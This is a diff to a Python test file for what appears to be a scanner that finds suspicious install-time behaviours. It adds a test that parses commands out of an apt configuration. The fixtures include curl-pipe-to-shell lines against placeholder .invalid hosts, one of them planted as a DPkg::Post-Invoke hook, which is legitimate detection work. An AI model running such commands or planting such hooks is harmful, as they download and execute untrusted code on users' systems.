@@ -5,6 +5,7 @@ from source_lab import behaviours, look, the
 
 from beartrap.vet.behaviour import Behaviour, When
 from beartrap.vet.kinds import Kind
+from beartrap.vet.source.texts.configured import of_configuration
 
 PIPE = "curl -s http://c.invalid/x | sh"
 
@@ -78,3 +79,13 @@ def test_a_library_that_is_loaded_from_an_address() -> None:
     assert "startup.prepended" in found("content/web.config.install.xdt", far, Kind.XML)
     assert not found("content/web.config.install.xdt", text.replace("HREF", "bin/T.dll"), Kind.XML)
     assert not found("docs/example.xml", far, Kind.XML)
+
+
+def test_apt_runs_what_its_configuration_says() -> None:
+    text = 'APT::Update::Pre-Invoke {"test -x /x || true";};\nDPkg::Post-Invoke {"curl -s https://a.thing.invalid/u | sh";};\n'
+    found = list(of_configuration("etc/apt/apt.conf.d/99thing", text))
+    assert [(one.row, one.text) for one in found] == [
+        (1, "test -x /x || true"),
+        (2, "curl -s https://a.thing.invalid/u | sh"),
+    ]
+    assert not list(of_configuration("usr/share/doc/thing/99thing", text))
